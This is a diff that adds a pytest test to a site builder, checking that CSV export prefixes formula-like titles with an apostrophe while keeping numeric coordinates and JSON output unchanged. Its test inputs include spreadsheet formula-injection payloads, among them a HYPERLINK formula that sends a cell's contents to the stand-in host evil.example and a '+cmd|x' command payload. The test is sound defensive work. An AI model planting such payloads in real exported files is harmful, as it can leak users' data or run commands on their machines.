@@ -157,3 +157,17 @@ def test_a_record_is_what_json_dumps_writes_and_leaves_the_plan_s_answers_as_the
     expected = json.dumps(plan_record(plan, "hide"), ensure_ascii=False, separators=(",", ":"))
     assert record_json(plan, "hide") == expected.encode("utf-8")
     assert sys.getsizeof(answer) == size
+
+
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1)", "+cmd|x", "- Closing form"]
+)
+def test_a_csv_cell_a_spreadsheet_would_run_is_marked_as_text_and_numbers_are_not(tmp_path, title):
+    source = write_plans(
+        tmp_path / "plans", {"a.md": plan_text(title, {"country": "Chile", "latlng": "-33.45,-70.66"})}
+    )
+    assert run_build("build", "--source", source, "--output", tmp_path / "site", cwd=tmp_path).returncode == 0
+    [row] = read_csv(tmp_path / "site")
+    assert row["title"] == "'" + title
+    assert (row["latitude"], row["longitude"]) == ("-33.45", "-70.66")
+    assert read_json(tmp_path / "site")["plans"][0]["title"] == title  # the data as written
